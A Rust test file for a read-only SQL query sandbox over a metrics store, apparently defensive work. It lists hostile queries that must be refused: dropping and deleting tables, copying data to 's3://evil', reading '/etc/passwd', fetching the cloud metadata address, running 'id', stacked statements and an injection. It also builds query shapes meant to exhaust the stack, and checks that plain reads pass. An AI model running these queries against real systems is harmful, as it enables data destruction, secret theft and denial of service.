//! Queries that must be refused, with the reason, and queries that must not be.

use super::*;
use crate::error::QueryErrorKind::{self, Plan, Sandbox, Syntax};

const LIMITS: LimitNames = LimitNames { memory: 1 << 20, spill: 1 << 20 };

/// Checks on a stack like the one queries are planned on.
fn check(query: &str, limits: LimitNames) -> Result<Checked> {
    std::thread::scope(|scope| {
        let thread = std::thread::Builder::new().stack_size(crate::plan_thread::STACK);
        thread.spawn_scoped(scope, || super::check(query, limits)).unwrap().join().unwrap()
    })
}

fn kind(query: &str) -> Option<QueryErrorKind> {
    check(query, LIMITS).err().map(|error| error.kind)
}

/// Refused before planning.
const ATTACKS: [(&str, QueryErrorKind); 122] = [
    // statements that change or define things
    ("DROP TABLE metrics", Sandbox),
    ("DROP SCHEMA prom CASCADE", Sandbox),
    ("DELETE FROM metrics", Sandbox),
    ("DELETE FROM metrics WHERE true", Sandbox),
    ("UPDATE metrics SET value = 0", Sandbox),
    ("INSERT INTO metrics VALUES (1)", Sandbox),
    ("INSERT INTO metrics SELECT * FROM metrics", Sandbox),
    ("INSERT OVERWRITE metrics SELECT * FROM metrics", Sandbox),
    ("TRUNCATE TABLE metrics", Sandbox),
    ("MERGE INTO metrics USING series ON true WHEN MATCHED THEN DELETE", Sandbox),
    ("CREATE TABLE t AS SELECT * FROM metrics", Sandbox),
    ("CREATE TABLE t (a INT)", Sandbox),
    ("CREATE TEMPORARY TABLE t (a INT)", Sandbox),
    ("CREATE VIEW v AS SELECT * FROM metrics", Sandbox),
    ("CREATE OR REPLACE VIEW v AS SELECT 1", Sandbox),
    ("CREATE SCHEMA s", Sandbox),
    ("CREATE DATABASE d", Sandbox),
    ("CREATE INDEX i ON metrics (ts)", Sandbox),
    ("CREATE FUNCTION f() RETURNS INT RETURN 1", Sandbox),
    ("CREATE ROLE r", Sandbox),
    ("ALTER TABLE metrics ADD COLUMN x INT", Sandbox),
    ("ALTER TABLE metrics RENAME TO m", Sandbox),
    ("GRANT ALL ON metrics TO PUBLIC", Sandbox),
    ("REVOKE ALL ON metrics FROM PUBLIC", Sandbox),
    ("COMMENT ON TABLE metrics IS 'x'", Sandbox),
    ("VACUUM", Sandbox),
    ("ANALYZE TABLE metrics COMPUTE STATISTICS", Sandbox),
    // files, in and out
    ("COPY metrics TO '/tmp/x.parquet'", Sandbox),
    ("COPY (SELECT * FROM metrics) TO 's3://evil/x' STORED AS PARQUET", Sandbox),
    ("COPY metrics TO '/tmp/x' STORED AS CSV OPTIONS ('format.delimiter' '|')", Sandbox),
    ("CREATE EXTERNAL TABLE t STORED AS CSV LOCATION '/etc/passwd'", Sandbox),
    ("CREATE EXTERNAL TABLE t STORED AS PARQUET LOCATION 'http://169.254.169.254/'", Sandbox),
    ("CREATE UNBOUNDED EXTERNAL TABLE t STORED AS CSV LOCATION '/dev/stdin'", Sandbox),
    ("LOAD DATA INPATH '/etc/passwd' INTO TABLE metrics", Sandbox),
    ("SELECT * FROM '/etc/passwd'", Sandbox),
    ("SELECT * FROM 'file:///etc/passwd'", Sandbox),
    ("SELECT * FROM 's3://bucket/key.parquet'", Sandbox),
    ("SELECT * FROM 'metrics'", Sandbox),
    ("SELECT * FROM metrics JOIN '/etc/passwd' ON true", Sandbox),
    ("SELECT * FROM (SELECT * FROM '/etc/passwd')", Sandbox),
    ("WITH x AS (SELECT * FROM '/etc/passwd') SELECT * FROM x", Sandbox),
    ("SELECT (SELECT count(*) FROM '/etc/passwd')", Sandbox),
    ("SELECT * FROM metrics WHERE EXISTS (SELECT 1 FROM '/etc/passwd')", Sandbox),
    ("SELECT 1 UNION SELECT * FROM '/etc/passwd'", Sandbox),
    ("EXPLAIN SELECT * FROM '/etc/passwd'", Sandbox),
    ("EXPLAIN ANALYZE COPY metrics TO '/tmp/x'", Sandbox),
    ("EXPLAIN INSERT INTO metrics VALUES (1)", Sandbox),
    ("EXPLAIN CREATE TABLE t (a INT)", Sandbox),
    ("EXPLAIN EXPLAIN SELECT 1", Sandbox),
    ("SELECT * INTO t FROM metrics", Sandbox),
    ("SELECT * INTO OUTFILE '/tmp/x' FROM metrics", Sandbox),
    // table functions
    ("SELECT * FROM read_csv('/etc/passwd')", Sandbox),
    ("SELECT * FROM read_parquet('s3://bucket/x')", Sandbox),
    ("SELECT * FROM read_json('/x')", Sandbox),
    ("SELECT * FROM parquet_metadata('/etc/passwd')", Sandbox),
    ("SELECT * FROM delta_scan('/x')", Sandbox),
    ("SELECT * FROM pg_read_file('/etc/passwd')", Sandbox),
    ("SELECT * FROM url('http://169.254.169.254/latest/meta-data')", Sandbox),
    ("SELECT * FROM executable('id')", Sandbox),
    ("SELECT * FROM LATERAL read_csv('/etc/passwd')", Sandbox),
    ("SELECT * FROM TABLE(read_csv('/etc/passwd'))", Sandbox),
    ("SELECT * FROM public.read_file('metrics/day=2026-11-22/a.parquet')", Sandbox),
    ("SELECT * FROM read_file()", Plan),
    ("SELECT * FROM read_file('a', 'b')", Plan),
    ("SELECT * FROM read_file(1)", Plan),
    ("SELECT * FROM read_file('a' || 'b')", Plan),
    ("SELECT * FROM read_file(path => 'a')", Plan),
    ("SELECT * FROM LATERAL read_file(\"a\")", Plan),
    ("SELECT * FROM TABLE(read_file('metrics/day=2026-11-22/a.parquet'))", Plan),
    // other schemas and catalogs
    ("SELECT * FROM pg_catalog.pg_shadow", Sandbox),
    ("SELECT * FROM mysql.user", Sandbox),
    ("SELECT * FROM datafusion.public.metrics", Sandbox),
    ("SELECT * FROM other.public.metrics", Sandbox),
    ("SELECT * FROM a.b.c.d", Sandbox),
    ("SELECT * FROM information_schema.df_settings", Sandbox),
    ("SELECT * FROM INFORMATION_SCHEMA.DF_SETTINGS", Sandbox),
    ("SELECT * FROM information_schema.\"df_settings\"", Sandbox),
    ("SELECT * FROM information_schema.\"DF_SETTINGS\"", Sandbox),
    ("SELECT * FROM atl.information_schema.df_settings", Sandbox),
    ("WITH s AS (SELECT * FROM information_schema.df_settings) SELECT * FROM s", Sandbox),
    ("SELECT * FROM information_schema.passwords", Sandbox),
    ("DESCRIBE information_schema.df_settings", Sandbox),
    ("SHOW COLUMNS FROM information_schema.df_settings", Sandbox),
    ("DESCRIBE '/etc/passwd'", Sandbox),
    // settings and sessions
    ("SET datafusion.execution.batch_size = 1", Sandbox),
    ("SET datafusion.runtime.memory_limit = '100G'", Sandbox),
    ("RESET datafusion.execution.batch_size", Sandbox),
    ("SHOW ALL", Sandbox),
    ("SHOW datafusion.execution.batch_size", Sandbox),
    ("SHOW TIMEZONE", Sandbox),
    ("SHOW VARIABLES", Sandbox),
    ("SHOW CREATE TABLE metrics", Sandbox),
    ("SHOW FUNCTIONS LIKE 'x'' UNION SELECT 1 --'", Sandbox),
    ("USE prom", Sandbox),
    ("BEGIN", Sandbox),
    ("COMMIT", Sandbox),
    ("ROLLBACK", Sandbox),
    ("PREPARE p AS SELECT 1", Sandbox),
    ("EXECUTE p", Sandbox),
    ("DEALLOCATE p", Sandbox),
    ("CALL f()", Sandbox),
    ("KILL 1", Sandbox),
    ("DISCARD ALL", Sandbox),
    ("LOCK TABLES metrics WRITE", Sandbox),
    ("LISTEN x", Sandbox),
    ("SHOW COLUMNS FROM metrics LIKE 'x'", Sandbox),
    // several at once
    ("SELECT 1; SELECT 2", Sandbox),
    ("SELECT 1; DROP TABLE metrics", Sandbox),
    ("; ; SELECT 1; ; COPY metrics TO '/x'", Sandbox),
    // clauses that are not a plain read
    ("SELECT * FROM metrics FOR UPDATE", Sandbox),
    ("SELECT * FROM metrics FOR SHARE NOWAIT", Sandbox),
    ("SELECT * FROM metrics SETTINGS max_threads = 1", Sandbox),
    ("SELECT * FROM metrics FORMAT JSON", Sandbox),
    ("SELECT * FROM metrics FOR JSON AUTO", Sandbox),
    ("SELECT * FROM metrics TABLESAMPLE SYSTEM (10)", Sandbox),
    ("SELECT * FROM metrics FOR SYSTEM_TIME AS OF '2020-01-01'", Sandbox),
    ("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r", Sandbox),
    ("WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM r) SELECT sum(n) FROM r", Sandbox),
    // not SQL
    ("", Syntax),
    ("   \n\t ", Syntax),
    ("-- only a comment", Syntax),
    ("\0\0\0", Syntax),
];

#[test]
fn attacks_are_refused() {
    for (query, expect) in ATTACKS {
        let error = check(query, LIMITS).expect_err(query);
        // Where the grammar knows no such statement, its refusal is as good.
        let refused = error.kind == expect || (expect == Sandbox && error.kind == Syntax);
        assert!(refused, "{query}: {error:?}");
    }
    let by_the_grammar =
        ATTACKS.iter().filter(|(query, expect)| *expect == Sandbox && kind(query) == Some(Syntax));
    let by_the_grammar: Vec<&str> = by_the_grammar.map(|(query, _)| *query).collect();
    assert!(by_the_grammar.len() <= 12, "too few attacks reach the sandbox: {by_the_grammar:#?}");
}

#[test]
fn large_and_deep_queries_are_refused() {
    let repeat = |piece: &str, count: usize| piece.repeat(count);
    let ladder = |levels: usize, width: usize| {
        let mut query = String::from("WITH t0 AS (SELECT * FROM metrics)");
        for level in 1..=levels {
            let names = vec![format!("t{} ", level - 1); width]
                .iter()
                .enumerate()
                .map(|(i, t)| format!("{t} a{i}"))
                .collect::<Vec<_>>();
            query += &format!(", t{level} AS (SELECT a0.* FROM {})", names.join(", "));
        }
        query + &format!(" SELECT * FROM t{levels}")
    };
    let attacks = [
        format!("SELECT '{}'", repeat("x", 70_000)),
        format!("SELECT {}1{}", repeat("(", 101), repeat(")", 101)),
        format!("SELECT {}1{}", repeat("(", 20_000), repeat(")", 20_000)),
        format!("SELECT {}", repeat("(", 60_000)),
        format!("SELECT {}", repeat("[", 60_000)),
        format!("SELECT {}1", repeat("NOT ", 10_000)),
        format!("SELECT {}1", repeat("- ", 30_000)),
        format!("SELECT {}1", repeat("+", 60_000)),
        format!("SELECT {}1", repeat("~", 60_000)),
        format!("SELECT 1{}", repeat("+1", 30_000)),
        format!("SELECT 1{}", repeat("||1", 20_000)),
        format!("SELECT 1 WHERE true{}", repeat(" OR true", 7_000)),
        format!("SELECT 1 WHERE true{}", repeat(" AND true", 7_000)),
        format!("SELECT 1{}", repeat("::int", 10_000)),
        format!("SELECT 1{}", repeat(" IS NULL", 7_000)),
        format!("SELECT {}1{}", repeat("CASE WHEN true THEN ", 3_000), repeat(" END", 3_000)),
        format!("SELECT 1{}", repeat(" UNION ALL SELECT 1", 3_000)),
        format!("SELECT 1{}", repeat(" EXCEPT SELECT 1", 3_000)),
        format!("SELECT * FROM metrics{}", repeat(" JOIN metrics ON true", 1_000)),
        format!("SELECT * FROM metrics{}", repeat(", metrics", 5_000)),
        format!("SELECT {}1{}", repeat("abs(", 10_000), repeat(")", 10_000)),
        format!("SELECT * FROM {}metrics{}", repeat("(SELECT * FROM ", 150), repeat(")", 150)),
        format!("EXPLAIN SELECT {}1{}", repeat("(", 500), repeat(")", 500)),
        ladder(40, 1),
        ladder(9, 2),
        ladder(30, 2),
        ladder(4, 8),
    ];
    for query in &attacks {
        let error = check(query, LIMITS).expect_err(&query[..60]);
        assert!(matches!(error.kind, Sandbox | Syntax), "{}…: {error:?}", &query[..60]);
    }
}

#[test]
fn plain_reads_pass() {
    for query in [
        "SELECT 1",
        "select * from Metrics limit 1;",
        "SELECT * FROM \"metrics\"",
        "SELECT * FROM public.metrics AS m WHERE m.value > 1",
        "SELECT * FROM atl.prom.\"job:up:ratio\"",
        "SELECT * FROM prom.up u LEFT JOIN prom.x USING (instance)",
        "WITH a AS (SELECT 1 AS x), b AS (SELECT * FROM a) SELECT * FROM a, b",
        "WITH passwd AS (SELECT 1) SELECT * FROM passwd WHERE EXISTS (WITH q AS (SELECT 2) SELECT * FROM q)",
        "SELECT * FROM generate_series(1, 10) g",
        "SELECT * FROM range(1, 10), unnest([1, 2])",
        "SELECT * FROM read_file('metrics/day=2026-11-22/a.parquet')",
        "SELECT unnest(map_keys(labels)) FROM series",
        "VALUES (1), (2)",
        "SELECT 1 UNION ALL SELECT 2 INTERSECT SELECT 3",
        "SELECT * FROM (VALUES (1, 'a')) AS t(x, y)",
        "SELECT row_number() OVER (PARTITION BY tsid ORDER BY ts) FROM metrics",
        "SELECT date_bin(interval '5 minutes', ts) AS t, avg(value) FILTER (WHERE value > 0) FROM metrics GROUP BY 1 HAVING count(*) > 1 ORDER BY 1",
        "SELECT ts::date, value::text, CAST(ts AS bigint) FROM metrics",
        "SELECT * FROM metrics WHERE ts >= now() - interval '1 hour' AND metric ~ '^node_'",
        "SELECT labels['job'], label(labels, 'job') FROM series",
        "SELECT * EXCLUDE (tsid) FROM metrics",
        "SELECT DISTINCT ON (tsid) * FROM metrics ORDER BY tsid, ts DESC",
        "EXPLAIN SELECT * FROM metrics",
        "EXPLAIN ANALYZE SELECT * FROM metrics",
        "EXPLAIN VERBOSE SELECT * FROM metrics",
        "SHOW TABLES",
        "SHOW COLUMNS FROM metrics",
        "SHOW FUNCTIONS",
        "SHOW FUNCTIONS LIKE 'date%'",
        "DESCRIBE metrics",
        "DESC prom.up",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM information_schema.columns WHERE table_name = 'df_settings'",
        "SELECT 'DROP TABLE metrics; --' AS s -- ; DELETE",
        "SELECT /* ; DROP TABLE metrics */ 1",
    ] {
        if let Err(error) = check(query, LIMITS) {
            panic!("{query}: {error:?}");
        }
    }
}

#[test]
fn what_a_query_needs_is_told() {
    let checked = check(
        "SELECT * FROM read_file('a') JOIN read_file('b') USING (ts) JOIN read_file('a') c USING (ts)",
        LIMITS,
    )
    .unwrap();
    assert_eq!(checked.files, ["a", "b"]);
    assert!(checked.is_query && !checked.lists_names);
    assert!(check("SHOW TABLES", LIMITS).unwrap().lists_names);
    assert!(check("SELECT * FROM information_schema.tables", LIMITS).unwrap().lists_names);
    assert!(!check("EXPLAIN SELECT 1", LIMITS).unwrap().is_query);
    assert!(
        !check("WITH information_schema AS (SELECT 1) SELECT * FROM information_schema", LIMITS)
            .unwrap()
            .lists_names
    );
}

#[test]
fn long_lists_and_long_conditions_pass() {
    let list = (0..5_000).map(|i| i.to_string()).collect::<Vec<_>>().join(", ");
    check(&format!("SELECT * FROM metrics WHERE tsid IN ({list})"), LIMITS).unwrap();
    let any = (0..300).map(|i| format!("tsid = {i}")).collect::<Vec<_>>().join(" OR ");
    check(&format!("SELECT * FROM metrics WHERE {any}"), LIMITS).unwrap();
    let columns = (0..2_000).map(|i| format!("value + {i} AS v{i}")).collect::<Vec<_>>().join(", ");
    check(&format!("SELECT {columns} FROM metrics"), LIMITS).unwrap();
}
